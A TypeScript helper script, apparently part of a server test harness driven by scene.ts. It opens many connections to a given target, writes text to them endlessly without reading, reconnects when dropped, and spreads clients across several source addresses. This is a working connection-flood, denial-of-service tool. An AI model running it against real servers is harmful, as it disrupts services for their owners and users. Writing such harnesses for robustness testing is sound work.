/**
 * Clients of HTTP that mean no good: each writes the same text over and over and never reads; who is cut off comes
 * again. scene.ts starts it with a target (a path, or `ADDRESS PORT`), how many clients, the text as JSON, how often
 * each writes it, and the addresses that they come from. Says `begun` when all have connected once.
 */
import { connect, type Socket } from 'node:net';

/** As much as a client writes at once. */
const CHUNK_BYTES = 64 * 1024;
/** Whoever is cut off comes again after so long. */
const RETURN_MILLISECONDS = 20;

const [target = '', count = '', text = '', times = '', ...addresses] = process.argv.slice(2);
const [host = '', port = ''] = target.split(' ');
const once = JSON.parse(text) as string;
const isEndless = times === 'endless';
const bytes = Buffer.from(isEndless ? once.repeat(Math.ceil(CHUNK_BYTES / once.length)) : once);
let connected = 0;

for (let index = 0; index < Number(count); index++) attack(addresses[index % addresses.length]);

function attack(localAddress: string | undefined): void {
  const socket =
    port === ''
      ? connect(target)
      : connect({ host, port: Number(port), ...(localAddress ? { localAddress } : {}) });
  socket.pause();
  socket.on('error', () => {});
  socket.on('connect', () => {
    if (++connected === Number(count)) process.stdout.write('begun\n');
    write(socket);
  });
  socket.on('close', () => setTimeout(() => attack(localAddress), RETURN_MILLISECONDS));
}

function write(socket: Socket): void {
  if (socket.destroyed) return;
  const isTaken = socket.write(bytes);
  if (!isEndless) return;
  if (isTaken) setImmediate(() => write(socket));
  else socket.once('drain', () => write(socket));
}
